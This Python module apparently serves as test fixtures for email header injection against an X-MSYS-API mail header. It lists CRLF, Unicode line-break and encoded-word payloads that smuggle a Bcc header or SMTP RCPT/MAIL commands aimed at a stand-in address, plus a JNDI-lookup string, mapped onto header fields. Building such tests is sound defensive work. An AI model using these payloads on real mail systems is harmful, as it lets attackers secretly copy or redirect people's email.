"""Texts that try to become a header field, a recipient or a command, and where X-MSYS-API may hold them."""

from collections.abc import Callable
from typing import Any

EVE = "eve@evil.example"

PAYLOADS = (
    f"x\r\nBcc: {EVE}",
    f"x\nBcc: {EVE}",
    f"x\rBcc: {EVE}",
    f"x\r\n Bcc: {EVE}",
    f"x\x00\r\nBcc: {EVE}",
    f"x\u2028Bcc: {EVE}",
    f"x\u2029Bcc: {EVE}",
    f"x\x85Bcc: {EVE}",
    f"x\x0bBcc: {EVE}",
    f"x>\r\nBcc: {EVE}",
    f"x>, <{EVE}",
    f"x>\r\nRCPT TO:<{EVE}",
    f"x\r\n.\r\nMAIL FROM:<{EVE}>",
    "x\r\n\r\nanother body",
    f"=?utf-8?Q?x=0D=0ABcc:_{EVE}?=",
    f"=?utf-8?Q?=3D=3Futf-8=3FQ=3F=0D=0ABcc:_{EVE}=3F=3D?=",
    "=?utf-8?B?eA0KQmNjOiBldmVAZXZpbC5leGFtcGxl?=",  # the same as the one before the last
    f"=?utf-7?Q?+AA0ACg-Bcc: {EVE}?=",
    f"=?x?Q?=0D=0ABcc:_{EVE}",
    f"{EVE}, ",
    f'" <{EVE}>, "',
    f'\\" <{EVE}>, (',
    f"x; {EVE}",
    f"x%0d%0aBcc: {EVE}",
    f"\u202e{EVE}\ufeff\U000e0041",
    "\u010d\u010aBcc: x",  # their low bytes are CR and LF
    "%s%n%x {0} ${jndi:ldap://x}",
    "x" * 5000,
)


def _entry(name: str, field: str) -> Callable[[str], dict[str, Any]]:
    def asked(payload: str) -> dict[str, Any]:
        return {name: [{"email": f"{name}@example.net", field: payload}]}

    return asked


PLACES: dict[str, Callable[[str], dict[str, Any]]] = {
    **{f"name in {name}": _entry(name, "name") for name in ("cc", "bcc", "archive")},
    **{f"address in {name}": _entry(name, "email") for name in ("cc", "bcc", "archive")},
    "address by itself": lambda payload: {"cc": [payload]},
    "end of an address": lambda payload: {"bcc": [f"bcc@example.net{payload}"]},
    "campaign": lambda payload: {"campaign_id": payload[:60], "bcc": ["bcc@example.net"]},
    "metadata": lambda payload: {"metadata": {payload: [payload]}, "cc": ["cc@example.net"]},
    "tags": lambda payload: {"tags": [payload], "cc": ["cc@example.net"]},
    "pool": lambda payload: {"options": {"ip_pool": payload}, "cc": ["cc@example.net"]},
    "key": lambda payload: {"options": {"dkim_key": payload}, "cc": ["cc@example.net"]},
}
"""What a header may say, by where the text stands in it."""


def authorised(asked: dict[str, Any]) -> set[str]:
    """Return the addresses that the lists of a header name, as far as they are none of the payloads'."""
    return {f"{name}@example.net" for name in ("cc", "bcc", "archive") if name in asked}
